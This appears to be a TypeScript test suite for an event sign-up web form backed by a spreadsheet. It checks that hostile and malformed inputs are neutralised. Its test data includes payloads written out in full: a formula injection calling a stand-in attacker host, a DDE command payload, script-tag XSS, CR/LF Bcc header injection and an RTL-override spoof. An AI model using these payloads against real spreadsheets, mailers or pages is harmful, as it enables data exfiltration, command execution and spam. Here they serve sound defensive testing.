/** Hostile and odd input through the web form: each gets a clear answer; the sheet holds exactly the right rows. */
import { Runtime } from '../../emulator/runtime';
import { guests, htmlOf, jsonOf, setUpRuntime, sheetRecords, signUp } from '../helpers';

interface Case {
  what: string;
  name: string;
  email: string;
  extra?: Record<string, string>;
  /** The answer's status, and for accepted ones the row we expect. */
  status: string;
  message?: RegExp;
  row?: { email: string; name: string };
}

const CASES: Case[] = [
  {
    what: 'formula payload in the name',
    name: '=IMPORTXML("http://evil.example/x","//a")',
    email: 'f1@example.com',
    status: 'confirmed',
    row: { email: 'f1@example.com', name: '=IMPORTXML("http://evil.example/x","//a")' },
  },
  {
    what: '+ prefix',
    name: "+cmd|' /C calc'!A0",
    email: 'f2@example.com',
    status: 'confirmed',
    row: { email: 'f2@example.com', name: "+cmd|' /C calc'!A0" },
  },
  {
    what: '- prefix',
    name: '-2+3',
    email: 'f3@example.com',
    status: 'confirmed',
    row: { email: 'f3@example.com', name: '-2+3' },
  },
  {
    what: '@ prefix',
    name: '@SUM(1,2)',
    email: 'f4@example.com',
    status: 'confirmed',
    row: { email: 'f4@example.com', name: '@SUM(1,2)' },
  },
  {
    what: 'number-like name',
    name: '007',
    email: 'f5@example.com',
    status: 'confirmed',
    row: { email: 'f5@example.com', name: '007' },
  },
  {
    what: 'date-like name',
    name: '2026-01-02',
    email: 'f6@example.com',
    status: 'confirmed',
    row: { email: 'f6@example.com', name: '2026-01-02' },
  },
  {
    what: 'formula-looking email local part',
    name: 'Eq',
    email: '=1+1@example.com',
    status: 'confirmed',
    row: { email: '=1+1@example.com', name: 'Eq' },
  },
  {
    what: 'HTML and script tags',
    name: '<script>alert(1)</script><b>Bold</b>',
    email: 'html@example.com',
    status: 'confirmed',
    row: { email: 'html@example.com', name: '<script>alert(1)</script><b>Bold</b>' },
  },
  {
    what: 'CR/LF header injection in the name',
    name: 'Ada\r\nBcc: victim@example.com',
    email: 'crlf@example.com',
    status: 'waitlisted',
    row: { email: 'crlf@example.com', name: 'Ada Bcc: victim@example.com' },
  },
  {
    what: 'CR/LF in the email',
    name: 'Eve',
    email: 'eve@example.com\r\nBcc: victim@example.com',
    status: 'invalid',
    message: /space/,
  },
  {
    what: '10,000-character name',
    name: 'x'.repeat(10000),
    email: 'long@example.com',
    status: 'invalid',
    message: /shorten your name/,
  },
  {
    what: 'unicode name',
    name: 'José Ñandú 🎉 李小龙',
    email: 'uni@example.com',
    status: 'waitlisted',
    row: { email: 'uni@example.com', name: 'José Ñandú 🎉 李小龙' },
  },
  {
    what: 'RTL name',
    name: 'مريم الأحمد',
    email: 'rtl@example.com',
    status: 'waitlisted',
    row: { email: 'rtl@example.com', name: 'مريم الأحمد' },
  },
  {
    what: 'RTL override characters are dropped',
    name: 'Bob\u202Egnp.exe',
    email: 'bidi@example.com',
    status: 'waitlisted',
    row: { email: 'bidi@example.com', name: 'Bobgnp.exe' },
  },
  {
    what: 'space inside the email',
    name: 'Sp',
    email: 'ada lovelace@example.com',
    status: 'invalid',
    message: /has a space/,
  },
  {
    what: 'spaces around and uppercase',
    name: '  Upper   Case  ',
    email: '  UPPER@Example.COM ',
    status: 'waitlisted',
    row: { email: 'upper@example.com', name: 'Upper Case' },
  },
  {
    what: 'plus tag kept',
    name: 'Plus',
    email: 'ada+rsvp@example.com',
    status: 'waitlisted',
    row: { email: 'ada+rsvp@example.com', name: 'Plus' },
  },
  { what: 'missing @', name: 'NoAt', email: 'ada.example.com', status: 'invalid', message: /no "@"/ },
  { what: 'missing domain', name: 'NoDomain', email: 'ada@', status: 'invalid', message: /after "@"/ },
  {
    what: 'empty fields',
    name: '',
    email: '',
    status: 'invalid',
    message: /enter your name.*enter your email/,
  },
  {
    what: 'empty name only',
    name: ' ',
    email: 'named@example.com',
    status: 'invalid',
    message: /enter your name/,
  },
  { what: 'two @', name: 'Two', email: 'a@b@example.com', status: 'invalid', message: /look like an email/ },
  {
    // Pasted from an address book: the address inside is the guest's (Ada, already on the list).
    what: 'display name in the email field',
    name: 'Disp',
    email: 'Ada <ada@example.com>',
    status: 'already-waitlisted',
  },
  {
    what: 'extra unknown parameters are ignored',
    name: 'Extra',
    email: 'extra@example.com',
    extra: { status: 'confirmed', capacity: '999', token: 'mine', __proto__: 'x' },
    status: 'waitlisted',
    row: { email: 'extra@example.com', name: 'Extra' },
  },
  {
    // No render stamp either: answered as that sign-up would be (the event is full by now), no row.
    what: 'honeypot filled (a bot)',
    name: 'Bot',
    email: 'bot@example.com',
    extra: { website: 'http://spam' },
    status: 'waitlisted',
  },
];

describe('bad input', () => {
  let rt: Runtime;
  afterAll(() => rt?.close());

  test('each hostile or odd input gets a clear answer, and the sheet holds exactly the accepted rows as text', async () => {
    rt = await setUpRuntime({ capacity: 8 });
    for (const c of CASES) {
      const a = jsonOf(await signUp(rt, c.name, c.email, c.extra));
      expect({ what: c.what, status: a.status }).toEqual({ what: c.what, status: c.status });
      if (c.message) expect(`${a.message} ${a.detail}`).toMatch(c.message);
    }
    const expected = CASES.filter((c) => c.row).map((c) => c.row);
    const rows = guests(rt);
    expect(rows.map((g) => ({ email: g.email, name: g.name }))).toEqual(expected);
    // Nothing became a formula or changed type.
    const sheet = rt.backend.ss.byName('Guests')!;
    expect(sheet.rows.flat().filter((cell) => cell.f)).toEqual([]);
    expect(
      sheetRecords(rt, 'Guests').every((r) => typeof r.Email === 'string' && typeof r.Name === 'string'),
    ).toBe(true);
    // Emails never carry input into headers, and HTML bodies escape it.
    for (const m of rt.backend.mail) {
      expect(m.subject).not.toMatch(/[\r\n]/);
      expect(m.htmlBody).not.toContain('<script>');
    }
    // A name made of markup is no first name: the greeting does not use it (render's unit tests show
    // that a name that is used is escaped).
    const htmlMail = rt.backend.mail.find((m) => m.to === 'html@example.com')!;
    expect(htmlMail.htmlBody).toContain('<p>Hi there,</p>');
  });

  test('answer pages escape what the guest typed', async () => {
    const page = htmlOf(await rt.postForm({ name: '"><script>alert(1)</script>', email: 'bad email' }));
    expect(page).not.toContain('<script>alert(1)</script>');
    expect(page).toContain('value="&#34;&#62;&#60;script&#62;alert(1)&#60;/script&#62;"');
    expect(page).toContain('That email address has a space in it.');
  });

  test('a wrong method or a missing event object never signs anyone up', async () => {
    const before = guests(rt).length;
    expect(
      htmlOf(await rt.web('GET', { name: 'G', email: 'get@example.com', action: 'register' })),
    ).toContain('<form');
    const empty = await rt.run('doPost', [{}], { context: 'webapp' });
    expect(htmlOf(empty)).toContain('Please check the form');
    expect(guests(rt).length).toBe(before);
  });
});
